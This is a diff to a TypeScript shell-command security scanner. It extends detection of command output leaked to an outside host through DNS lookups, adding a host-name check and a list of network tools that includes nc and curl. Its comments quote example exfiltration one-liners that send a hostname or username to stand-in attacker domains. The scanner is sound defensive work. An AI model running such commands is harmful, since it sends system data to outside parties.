@@ -3,7 +3,7 @@ import type { Finding } from './findings.js';
 import { obfuscation, payloadText } from './obfuscation.js';
 import { classifyPayload, listsSensitiveDir } from './payload.js';
 import { coveringTracks, credentialAccess, downloadExec, reverseShell, secretEgress } from './remote-exec.js';
-import { commandName, type ShellCommand, type ShellScript } from './script.js';
+import { commandName, type ShellCommand, type ShellScript, type ShellSubst, type ShellWord } from './script.js';
 import { tokenizeScript } from './tokens.js';
 import { isLastInSequence, ownerOf, previousOf, scriptView, viewOf, type ScriptView } from './view.js';
 
@@ -103,6 +103,20 @@ function chainedPayloads(sv: ScriptView): Finding[] {
   return out;
 }
 
+/** What follows a substitution that makes it the first label of a host name: `.attacker.example`. */
+const DNS_LABEL_AFTER = /^\.[a-z0-9-]+\.[a-z]/i;
+/** inHostName: the substitution is the first label of a host name (`$(id).x.example`, `http://$(id).x.example/`), not part of a path (`/app-$(cat VERSION).tar.gz`). */
+function inHostName(word: ShellWord, subst: ShellSubst): boolean {
+  const before = word.raw.slice(0, subst.start - word.start);
+  const after = word.raw.slice(subst.end - word.start);
+  if (!DNS_LABEL_AFTER.test(after)) return false;
+  const scheme = before.indexOf('://');
+  return scheme >= 0 ? !before.slice(scheme + 3).includes('/') : !before.includes('/');
+}
+
+/** Commands that resolve the host names they are given. */
+const LOOKUP_TOOLS = new Set(['ping', 'ping6', 'nslookup', 'dig', 'host', 'drill', 'traceroute', 'tracepath', 'whois', 'curl', 'wget', 'nc', 'ncat', 'telnet', 'ssh']);
+
 /**
  * substitutedPayloads finds `$(…)`/backticks that run payloads: a time delay or code call anywhere,
  * a raw connection, or any payload when the substitution is glued to a value (`alice$(id)`) or
@@ -113,7 +127,15 @@ function substitutedPayloads(sv: ScriptView): Finding[] {
   for (const subst of sv.script.substs) {
     const inner = (sv.sequences.get(subst.sequence) ?? []).map((c) => viewOf(sv, c));
     const payloads = inner.flatMap((v) => (v ? [classifyPayload(v)] : [])).filter((p) => p !== undefined);
-    if (payloads.length === 0) continue;
+    if (payloads.length === 0) {
+      // `ping -c1 \`cat /etc/hostname\`.evil.example`: any output leaves as a DNS label when a network tool looks the name up.
+      const owner = ownerOf(sv, subst);
+      const tool = owner ? viewOf(sv, owner.cmd)?.name : undefined;
+      if (owner && tool && LOOKUP_TOOLS.has(tool) && inHostName(owner.word, subst)) {
+        out.push({ id: 'command_injection', severity: 'high', label: 'command output sent as a host name', text: sv.script.source, start: subst.start, end: owner.word.end });
+      }
+      continue;
+    }
     const glued = /[A-Za-z0-9]$/.test(subst.prefix);
     const strong = payloads.find((p) => p.kind === 'delay' || p.kind === 'code' || p.kind === 'webshell' || (p.strong && (p.kind === 'fetch' || p.kind === 'netcat' || p.kind === 'dns')));
     const hit = strong ?? (glued || subst.nested ? payloads[0] : undefined);
@@ -123,8 +145,7 @@ function substitutedPayloads(sv: ScriptView): Finding[] {
     }
     // `nslookup $(whoami).attacker.example`: the output leaves as a DNS label.
     const owner = ownerOf(sv, subst);
-    const after = owner ? owner.word.raw.slice(subst.end - owner.word.start) : '';
-    if (/^\.[a-z0-9-]+\.[a-z]/i.test(after)) {
+    if (owner && inHostName(owner.word, subst)) {
       out.push({ id: 'command_injection', severity: 'high', label: 'command output sent as a host name', text: sv.script.source, start: subst.start, end: owner!.word.end });
     }
   }
